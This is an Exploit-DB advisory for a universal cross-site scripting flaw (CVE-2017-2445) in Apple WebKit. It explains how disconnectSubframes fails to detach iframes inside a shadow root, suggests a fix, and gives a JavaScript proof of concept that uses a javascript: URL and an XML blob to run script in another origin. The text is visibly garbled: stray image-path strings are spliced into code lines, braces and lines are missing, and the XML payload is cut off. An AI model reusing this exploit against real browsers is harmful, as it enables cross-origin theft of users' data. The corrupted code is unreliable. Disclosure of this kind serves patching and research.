Apple WebKit 10.0.2(12602. - 'disconnectSubframes' Universal Cross-Site Scripting

ID EDB-ID:41802
Type exploitdb
Reporter Exploit-DB
Modified 2017-04-04T00:00:00


Apple WebKit 10.0.2(12602. - 'disconnectSubframes' Universal Cross-Site Scripting. CVE-2017-2445. Webapps exploit for Multiple platform


When an element is removed from a document, the function |disconnectSubframes| is called to detach its subframes(iframe tag, object tag, etc.).

Here is a snippet of |disconnectSubframes|.

void disconnectSubframes(ContainerNode& root, SubframeDisconnectPolicy policy)
    Vector<Ref<HTMLFrameOwnerElement>> frameOwners;

    if (policy == RootAndDescendants) {
        if (is<HTMLFrameOwnerElement>(root))

    collectFrameOwners(frameOwners, root);

    // Must disable frame loading in the subtree so an unload handler cannot
    // insert more frames and create loaded frames in detached subtrees.
    SubframeLoadingDisabler disabler(root);

    bool isFirst = true;
    for (auto& owner : frameOwners) {
        // Don't need to traverse up the tree for the first owner since no
        // script could have moved it.
        if (isFirst || root.containsIncludingShadowDOM(&owner.get()))
        isFirst = false;

The bug is that it doesn't consider |root|'s shadowroot. So any subframes in the shadowroot will be never detached.

It should be like:

    collectFrameOwners(frameOwners, root);

    if (is<Element>(root)) {
        Element& element = downcast<Element>(root);
        if (ShadowRoot* shadowRoot = element.shadowRoot())
            collectFrameOwners(frameOwners, *shadowRoot);


var d =document.body.appendChild(document.createElement("div"));
var s = d.attachShadow({mode: "open"});

var f = s.appendChild(document.createElement("iframe"));

f.onload = () => {
    f.onload = null;

    f.src = "javascript:alert(location)";

    var xml = `
<svg xmlns="">

</sc` +`ript>
<element a="1" a="2" />

    var v =document.body.appendChild(document.createElement("iframe"));
    v.src = URL.createObjectURL(new Blob([xml], {type: "text/xml"}));

f.src = "";

Tested on Safari 10.0.2(12602.

I didn’t notice that the method shadowRoot is declared in Node.h. So the following would better make sense.collectFrameOwners(frameOwners, root);

    if (ShadowRoot* shadowRoot =root.shadowRoot())
        collectFrameOwners(frameOwners, *shadowRoot);